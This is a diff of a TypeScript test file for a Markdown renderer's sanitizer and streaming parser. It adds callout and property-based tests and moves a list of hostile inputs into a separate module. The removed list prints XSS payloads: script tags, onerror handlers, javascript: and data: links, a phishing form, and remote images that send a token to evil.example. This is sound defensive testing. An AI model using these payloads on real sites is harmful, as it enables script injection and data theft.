@@ -1,4 +1,6 @@
+import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { HOSTILE } from './hostile';
 import { GrowingMarkdown, renderMarkdown, type Block } from './markdown';
 
 /** What the blocks become in a page. */
@@ -14,48 +16,6 @@ function drawn(blocks: Block[]): HTMLElement {
   }
   return page;
 }
-
-const HOSTILE: [string, string][] = [
-  ['a script', '<script>alert(1)</script>'],
-  ['a script inside a paragraph', 'Hello <script src="https://evil.example/x.js"></script> there'],
-  ['an image with a handler', '<img src=x onerror="alert(1)">'],
-  ['an svg with a handler', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
-  ['math with a link', '<math href="javascript:alert(1)">CLICK</math>'],
-  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
-  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
-  ['an iframe with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
-  [
-    'a form',
-    '<form action="https://evil.example"><input name="key"><button>Sign in</button></form>',
-  ],
-  ['a style tag', '<style>body{display:none}</style>'],
-  [
-    'a style attribute that covers the page',
-    '<div style="position:fixed;inset:0;background:red">x</div>',
-  ],
-  ['our own classes', '<div class="fixed inset-0 z-50 bg-canvas">x</div>'],
-  ['a base tag', '<base href="https://evil.example/">'],
-  ['an object', '<object data="https://evil.example/x.swf"></object>'],
-  ['a link tag', '<link rel="stylesheet" href="https://evil.example/x.css">'],
-  ['a javascript link', '[click](javascript:alert(1))'],
-  ['a javascript link in disguise', '[click](JaVaScRiPt&#58;alert(1))'],
-  ['a data link', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
-  ['a vbscript autolink', '<vbscript:msgbox(1)>'],
-  ['a link to another host without a scheme', '[click](//evil.example/x)'],
-  ['a handler in a link title', '[click](https://ok.example "x\\" onmouseover=\\"alert(1)")'],
-  ['a remote image', '![secret](https://evil.example/?q=token)'],
-  ['a remote image by reference', '![secret][x]\n\n[x]: https://evil.example/?q=token'],
-  ['a remote image in raw HTML', '<img src="https://evil.example/?q=token">'],
-  ['an svg as a picture', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
-  ['names that shadow ours', '<a id="location" name="body">x</a>'],
-  ['a template that mutates', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
-  ['markup in a fence’s language', '```"><img src=x onerror=alert(1)>\ncode\n```'],
-  ['markup in code', '`<img src=x onerror=alert(1)>`'],
-  [
-    'video and audio',
-    '<video src="https://evil.example/v"></video><audio src="https://evil.example/a">',
-  ],
-];
 
 const FORBIDDEN =
   'script, style, svg, math, iframe, object, embed, form, input, button, meta, base, link, video, audio, template, noscript, div, textarea, select';
@@ -92,6 +52,7 @@ function expectSafe(page: HTMLElement): void {
         'start',
         'align',
         'data-picture',
+        'data-callout',
         'target',
         'rel',
       ]).toContain(name);
@@ -128,6 +89,16 @@ test('lists, tables, tasks and links come out', () => {
   expect(page.querySelectorAll('a')[1]?.target).toBe('_blank');
 });
 
+// spec: length-6
+test('a quote that begins with its kind is set off, and any other is a quote', () => {
+  const page = drawn(renderMarkdown('> [!WARNING]\n> Mind **this**.\n\n> [!WHAT]\n> else'));
+  const [callout, quote] = page.querySelectorAll('blockquote');
+  expect(callout?.dataset['callout']).toBe('warning');
+  expect(callout?.textContent?.replace(/\s+/g, ' ').trim()).toBe('WarningMind this.');
+  expect(quote?.dataset['callout']).toBeUndefined();
+  expect(quote?.textContent).toContain('[!WHAT]');
+});
+
 describe('a growing text', () => {
   const TEXT =
     'First **paragraph**.\n\n```python\nprint(1)\n\nprint(2)\n```\n\n1. one\n2. two\n\nLast.';
@@ -138,6 +109,70 @@ describe('a growing text', () => {
     for (let i = 1; i <= TEXT.length; i++) blocks = markdown.update(TEXT.slice(0, i));
     expect(blocks).toEqual(renderMarkdown(TEXT));
   });
+
+  const word = fc.constantFrom(
+    ...[
+      'a',
+      'plain',
+      'word',
+      '**bold**',
+      '*soft*',
+      '`code`',
+      '~~gone~~',
+      '[in](/s/1)',
+      '<b>',
+      '&amp;',
+    ],
+    ...[
+      'https://ok.example',
+      '![x](https://evil.example/x.png)',
+      '\\*',
+      '_',
+      '*',
+      '`',
+      '|',
+      '1.',
+      '#',
+    ],
+  );
+  const words = fc.array(word, { minLength: 1, maxLength: 8 }).map((list) => list.join(' '));
+  const lines = (mark: string) =>
+    fc
+      .array(words, { minLength: 1, maxLength: 4 })
+      .map((list) => list.map((l) => mark + l).join('\n'));
+  const piece = fc.oneof(
+    words.map((text) => `So ${text}`),
+    words.map((text) => `## ${text}`),
+    lines('- x '),
+    lines('1. x '),
+    lines('- [ ] '),
+    lines('> x '),
+    lines('').map((text) => `\`\`\`ts\n${text}\n\`\`\``),
+    lines('').map((text) => `> [!NOTE]\n> ${text.replaceAll('\n', '\n> ')}`),
+    fc.constant('| a | b |\n|---|---|\n| 1 | *2* |\n| 3 | 4 |'),
+    fc.constant('---'),
+  );
+
+  // spec: length-5
+  test('ends as the finished text would be, whatever it says and wherever it was cut', () => {
+    fc.assert(
+      fc.property(
+        fc.array(piece, { maxLength: 6 }),
+        fc.array(fc.integer({ min: 1, max: 90 }), { minLength: 1, maxLength: 9 }),
+        (pieces, steps) => {
+          // Two lists, or two quotes, behind each other would be one.
+          const text = pieces.map((part) => `${part}\n\nThen.`).join('\n\n');
+          const markdown = new GrowingMarkdown();
+          for (let at = 0, step = 0; at < text.length; step++) {
+            at += steps[step % steps.length] ?? 1;
+            markdown.update(text.slice(0, at));
+          }
+          expect(markdown.update(text)).toEqual(renderMarkdown(text));
+        },
+      ),
+      { numRuns: 30 },
+    );
+  }, 120_000);
 
   test('keeps finished blocks as they are', () => {
     const markdown = new GrowingMarkdown();
